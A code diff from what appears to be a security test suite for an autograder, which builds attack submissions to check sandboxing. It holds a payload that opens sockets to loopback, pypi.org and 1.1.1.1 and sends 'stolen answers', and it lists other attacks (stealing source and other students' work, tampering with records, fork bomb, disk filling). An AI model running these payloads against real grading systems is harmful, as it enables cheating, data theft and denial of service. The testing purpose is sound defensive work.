@@ -115,10 +115,10 @@ print("places written:", len(changed), sorted({c.split("/")[1] for c in changed}
 """
 )
 
-NETWORK_PORT = 47613  # tests/test_grading_attacks.py listens here, on the grading machine's loopback
-NETWORK = f"""\
+NETWORK_PORT = "TINYTORCH_ATTACK_PORT"  # the environment variable naming the port a test listens on (loopback)
+NETWORK = """\
 import socket
-PORT = {NETWORK_PORT}
+PORT = {port}
 for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
     try:
         socket.create_connection((host, port), timeout=3).sendall(b"stolen answers")
@@ -126,6 +126,14 @@ for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
     except OSError as e:
         print("no connection to", host, port, type(e).__name__)
 """
+
+
+def _append_network(nb):
+    "The network attack, aimed at the port the test listens on (named when the submission is built)."
+    import os
+
+    append_code("imports", NETWORK.replace("{port}", os.environ.get(NETWORK_PORT, "47613")))(nb)
+
 
 FORK_BOMB = """\
 import os
@@ -410,7 +418,7 @@ ATTACKS = {
     "steal-source-notebook": ("blank", [append_code("imports", STEAL_SOURCE)]),
     "steal-other-student": ("blank", [append_code("imports", STEAL_OTHER_STUDENT)]),
     "tamper-records": ("reference", [append_code("optimizer-class", TAMPER)]),
-    "network": ("reference", [append_code("imports", NETWORK)]),
+    "network": ("reference", [_append_network]),
     "fork-bomb": ("reference", [append_code("optimizer-class", FORK_BOMB)]),
     "fill-disk": ("reference", [append_code("optimizer-class", FILL_DISK)]),
     "ask-grader-frames": (
